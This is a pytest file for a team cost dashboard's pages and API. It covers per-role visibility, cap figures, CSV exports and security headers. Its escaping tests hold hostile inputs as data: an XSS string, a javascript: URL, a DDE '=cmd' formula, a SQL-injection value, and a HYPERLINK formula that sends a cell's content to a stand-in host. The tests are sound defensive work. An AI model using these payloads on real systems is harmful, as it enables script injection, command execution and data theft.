"""The dashboard's pages and its API: each person's own, the lead's view, and nothing of anybody else's."""

from __future__ import annotations

import csv
import io
import json
import urllib.error
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from bot.core.money import Usd
from bot.core.rollup import as_json
from bot.stores.rollups import Rollups
from bot.stories.ruling import own_cap
from tests.browser import Browser, Page
from tests.web.dashboard_world import World, dashboard_world

EVIL = '"><img src=x onerror=alert(1)><script>alert(2)</script>'


@dataclass
class Office:
    """A month of three people over two repositories, and everybody's browser."""

    world: World
    hidden: tuple[int, str]
    browsers: dict[str, Browser]

    def page(self, login: str, path: str) -> Page:
        return self.browsers[login].open(self.world.url + path)

    def json(self, login: str, path: str) -> tuple[int, Any]:
        page = self.page(login, path)
        return page.status, json.loads(page.text)

    def rows(self, login: str, path: str) -> list[list[str]]:
        page = self.page(login, path)
        assert page.headers["content-type"] == "text/csv; charset=utf-8"
        return list(csv.reader(io.StringIO(page.text)))


@pytest.fixture(scope="module")
def office(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Office]:
    """`ada` administers both, `max` maintains the calendar alone, `dana` writes, `ren` reads and is named."""
    with dashboard_world(tmp_path_factory.mktemp("office")) as world:
        hidden = world.repository("acme/vault", max="none", dana="none", ren="none", tri="none")
        world.run("dana", "12.25")
        world.run("dana", "25", state="halted", reason="cost_ceiling")
        world.run("dana", "3.5", line="evals")
        world.run("tri", "1.5")
        world.run("ada", "2")
        world.run("ada", "700.000000001", hidden, state="halted", reason="stuck_loop", task_class="feature")
        world.run("max", "4", state="open", ceiling="10")
        browsers = {login: world.signed_in(login)[0] for login in ("ada", "max", "dana", "ren", "tri")}
        yield Office(world, hidden, browsers)


# -- who sees what --


def test_a_developer_sees_themselves_and_sums_and_no_other_person(office: Office) -> None:
    for path in ("/people", "/people/tri", "/people/nobody", "/people/ada", "/people?csv=people"):
        page = office.page("dana", path)
        assert page.status == 403, path
        assert "$" not in page.text
    for path in ("/api/v1/rollup", "/api/v1/people/tri", "/api/v1/people/nobody"):
        status, told = office.json("dana", path)
        assert (status, list(told)) == (403, ["error"]), path
    page = office.page("dana", "/me")
    assert "$40.75" in page.text
    for other in (">tri", ">ada", ">max", "vault", "$700"):
        assert other not in page.text, other
    assert office.rows("dana", "/me?csv=sums") == [
        ["name", "spend", "tasks"], ["acme/calendar", "48.25", "6"],
    ]  # fmt: skip


def test_a_maintainer_sees_people_where_they_maintain_and_nowhere_else(office: Office) -> None:
    status, told = office.json("max", "/api/v1/rollup")
    assert status == 200
    assert {one["name"]: one["usd"] for one in told["people"]} == {
        "dana": "40.75", "tri": "1.5", "ada": "2", "max": "4",
    }  # fmt: skip
    page = office.page("max", "/people")
    for secret in ("vault", "$700", "$702", "of their cap", "Shared caps"):
        assert secret not in page.text, secret
    status, ada = office.json("max", "/api/v1/people/ada")
    assert (status, ada["usd"], ada["whole"], ada["caps"]) == (200, "2", False, [])
    assert office.json("max", "/api/v1/people/max")[1]["whole"] is True


def test_who_is_named_sees_everybodys_figures_without_the_names_that_github_hides(office: Office) -> None:
    _, told = office.json("ren", "/api/v1/rollup")
    assert told["usd"] == "748.250000001"
    assert told["top"][0]["usd"] == "700.000000001"
    assert (told["top"][0]["repository"], told["top"][0]["url"]) == ("a repository that you may not read", "")
    page = office.page("ren", "/people")
    assert "of their cap" in page.text
    assert "vault" not in page.text
    assert "vault" not in office.page("ren", "/people/ada").text
    assert "acme/vault" in office.page("ada", "/people/ada").text


def test_the_rollup_is_the_same_as_the_command_lines(office: Office) -> None:
    now = datetime.fromtimestamp(office.world.services.database.now_ms() / 1000, UTC)
    whole = as_json(Rollups(office.world.services.database).read(office.world.month, now, accounts={}))
    _, told = office.json("ren", "/api/v1/rollup")
    for one in (whole, told):
        one["top"] = [task["usd"] for task in one["top"]]
        for moving in ("elapsed", "projected_usd"):
            del one[moving]
    assert told == whole


def test_a_removed_member_sees_nothing_five_minutes_later(tmp_path: Path) -> None:
    with dashboard_world(tmp_path) as world:
        world.run("dana", "1")
        browser, _ = world.signed_in("dana")
        world.github.user("dana", "none")
        assert browser.open(f"{world.url}/me").status == 200, "looked at less than five minutes ago"
        world.forward(301)
        for path in ("/me", "/", "/people/dana"):
            page = browser.open(world.url + path)
            assert (page.status, "$" in page.text) == (403, False)
        assert browser.open(f"{world.url}/api/v1/people/dana").status == 403


def test_a_role_that_was_lowered_shows_less_with_the_next_look(tmp_path: Path) -> None:
    with dashboard_world(tmp_path) as world:
        world.run("dana", "1")
        browser, _ = world.signed_in("max")
        assert browser.open(f"{world.url}/people").status == 200
        world.github.user("max", "write")
        world.forward(301)
        assert browser.open(f"{world.url}/people").status == 403
        assert browser.open(f"{world.url}/me").status == 200


def test_the_switch_is_shown_where_it_is_the_visitors_business(tmp_path: Path) -> None:
    with dashboard_world(tmp_path) as world:
        world.repository("acme/vault", dana="none", ren="none")
        switch = world.services.switch
        admin, writer, lead = (world.signed_in(login)[0] for login in ("ada", "dana", "ren"))
        switch.pause("acme/vault", "ada", "a leak")
        assert "paused in acme/vault by ada: a leak" in admin.open(f"{world.url}/me").text
        for nobody in (writer, lead):
            for path in ("/me", "/settings", "/settings?csv=switch", "/api/v1/settings"):
                told = nobody.open(world.url + path).text
                assert "vault" not in told, path
                assert "a leak" not in told, path
        switch.pause("", "ada", "an outage")
        assert "paused everywhere by ada: an outage" in writer.open(f"{world.url}/me").text
        assert "outage" not in Browser().open(world.url).text


# -- what stands there --


def test_a_developers_month_tells_cap_notice_runs_and_lines(office: Office) -> None:
    page = office.page("dana", "/me")
    for words in (
        "dana has spent $37.25 of $40.00",  # the notice at 75 %, without what is on the line
        "93 %",
        "halted: cost ceiling",
        "line evals",
        "own cap",
        "acme/calendar#",
    ):
        assert words in page.text, words
    runs = office.rows("dana", "/me?csv=runs")
    assert [row[0] for row in runs[1:]] == ["25", "12.25", "3.5"]
    _, told = office.json("dana", "/api/v1/people/dana")
    (cap,) = told["caps"]
    assert (cap["most_usd"], cap["spent_usd"], cap["percent"]) == ("40", "37.25", 93)
    assert told["lines"] == [{"name": "evals", "usd": "3.5", "tasks": 1}]


def test_a_leads_view_names_who_is_far_from_the_median_and_why(office: Office) -> None:
    page = office.page("ren", "/people")
    for words in ("ada is at", "times the median", "went on runs that were halted", "At this pace"):
        assert words in page.text, words
    rows = office.rows("ren", "/people?csv=people")
    assert rows[0][-1] == "of their cap"
    assert [row[:2] for row in rows[1:]] == [
        ["ada", "702.000000001"], ["dana", "40.75"], ["max", "4"], ["tri", "1.5"],
    ]  # fmt: skip
    assert sum(Usd.parse(row[1]).nanos for row in rows[1:]) == Usd.parse("748.250000001").nanos


def test_what_is_live_counts_as_held_on_the_persons_cap(office: Office) -> None:
    (cap,) = office.json("max", "/api/v1/people/max")[1]["caps"]
    assert (cap["spent_usd"], cap["held_usd"], cap["left_usd"], cap["live"]) == ("4", "6", "90", 1)
    assert "$6.00 held" in office.page("ren", "/people/max").text


def test_acknowledgements_are_shown_with_who_and_why(tmp_path: Path) -> None:
    with dashboard_world(tmp_path) as world:
        world.run("dana", "39.9")
        cap = next(iter(_standings(world, "dana"))).cap
        store = world.services.people
        comment = ("issue_comment", 1)
        store.acknowledge(cap, world.month, by="dana", reason=EVIL, repository_id=1, comment=comment)
        browser, page = world.signed_in("dana", next="/me")
        assert "opened 1 time" in page.text
        assert EVIL not in page.text
        assert "&lt;script&gt;" in page.text
        told = json.loads(browser.open(f"{world.url}/api/v1/people/dana").text)
        assert told["acknowledged"][0]["reason"] == EVIL
        assert told["caps"][0]["most_usd"] == "50"


def test_a_reason_that_somebody_gave_is_no_formula_of_the_leads_spreadsheet(tmp_path: Path) -> None:
    with dashboard_world(tmp_path) as world:
        world.run("dana", "39.9")
        cap = next(iter(_standings(world, "dana"))).cap
        formula = '=HYPERLINK("http://e.example/?"&B2,"why")'
        comment = ("issue_comment", 1)
        world.services.people.acknowledge(
            cap, world.month, by="dana", reason=formula, repository_id=1, comment=comment
        )
        browser, _ = world.signed_in("ren", next="/people")
        (_, row) = csv.reader(io.StringIO(browser.open(f"{world.url}/people?csv=acknowledged").text))
        assert row[3] == f"'{formula}"


def _standings(world: World, login: str) -> Any:
    cap = own_cap(world.services, (world.number(login), login))
    assert cap is not None
    return world.services.people.standings((cap,), world.month)


def test_a_month_without_runs_says_how_they_begin(office: Office) -> None:
    for login, path in (("ren", "/people"), ("dana", "/me")):
        page = office.page(login, f"{path}?month=2024-02")
        assert page.status == 200
        assert "/agent fix" in page.text


@pytest.mark.parametrize(
    "month", ["2026-13", "2026-1", "26-11", "2026-11-01", "x", "2026-\u0661\u0661", "' OR 1=1"]
)
def test_what_is_no_month_is_refused_with_one_that_is(office: Office, month: str) -> None:
    page = office.page("dana", f"/me?month={quote(month)}")
    assert page.status == 400
    assert "2026-11" in page.text
    assert office.page("dana", "/me?csv=nothing").status == 404


# -- what others wrote --


def test_a_name_a_title_or_an_address_of_somebody_elses_is_text_and_no_more(tmp_path: Path) -> None:
    with dashboard_world(tmp_path) as world:
        repo = (world.github.about["repository_id"], f"acme/{EVIL}")
        world.run("dana", "2", repo, url="javascript:alert(1)", line="=cmd|' /C calc'!A0")
        world.services.switch.pause("", EVIL, EVIL)
        browser, page = world.signed_in("dana", next="/me")
        _, people = world.signed_in("ren")
        for shown in (page.text, people.text, browser.open(f"{world.url}/people/{EVIL[:4]}").text):
            assert "<script" not in shown
            assert "<img" not in shown
            assert 'href="javascript' not in shown
        (_, row) = csv.reader(io.StringIO(browser.open(f"{world.url}/me?csv=lines").text))
        assert row[0].startswith("'="), "a spreadsheet takes it for a formula otherwise"


# -- what every answer has --


@pytest.mark.parametrize(
    "path",
    [
        "/me",
        "/people",
        "/nowhere",
        "/people/tri",
        "/api/v1/people/dana",
        "/me?csv=runs",
        "/runs",
        "/runs?csv=runs&state=live",
    ],
)
def test_every_answer_is_kept_by_no_cache_and_runs_no_script(office: Office, path: str) -> None:
    headers = office.page("dana", path).headers
    assert headers["cache-control"] == "no-store"
    assert headers["x-content-type-options"] == "nosniff"
    policy = headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "script-src" not in policy
    assert "unsafe" not in policy
    assert "frame-ancestors 'none'" in policy


def test_a_page_of_what_is_live_runs_our_script_and_no_other(office: Office) -> None:
    page = office.page("dana", "/runs?state=live")
    assert page.headers["cache-control"] == "no-store"
    policy = dict(
        part.strip().partition(" ")[::2] for part in page.headers["content-security-policy"].split(";")
    )
    assert (policy["default-src"], policy["script-src"], policy["connect-src"]) == (
        "'none'",
        "'self'",
        "'self'",
    )
    assert "unsafe" not in str(policy)
    assert page.text.count("<script") == 1


def test_what_is_the_same_for_everybody_may_be_kept(office: Office) -> None:
    page = office.page("dana", "/me")
    (style,) = [part.partition('"')[0] for part in page.text.split('href="/static/dashboard.css')[1:]]
    kept = Browser().open(f"{office.world.url}/static/dashboard.css{style}")
    assert kept.status == 200
    assert "immutable" in kept.headers["cache-control"]
    assert "cookie" not in kept.headers.get("vary", "").lower()


def test_programs_are_answered_in_json_and_told_how_to_come_in(office: Office) -> None:
    asked = urllib.request.Request(f"{office.world.url}/api/v1/rollup")  # noqa: S310 - loopback
    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen(asked, timeout=30)  # noqa: S310 - loopback
    with refused.value as answer:
        assert answer.code == 401
        assert "sign in" in json.loads(answer.read())["error"]


def test_a_page_that_is_not_there_leads_to_one_that_is(office: Office) -> None:
    page = office.page("dana", "/people/dana/nothing")
    assert (page.status, "/" in page.links) == (404, True)
    assert office.page("ren", "/people/nobody").status == 404
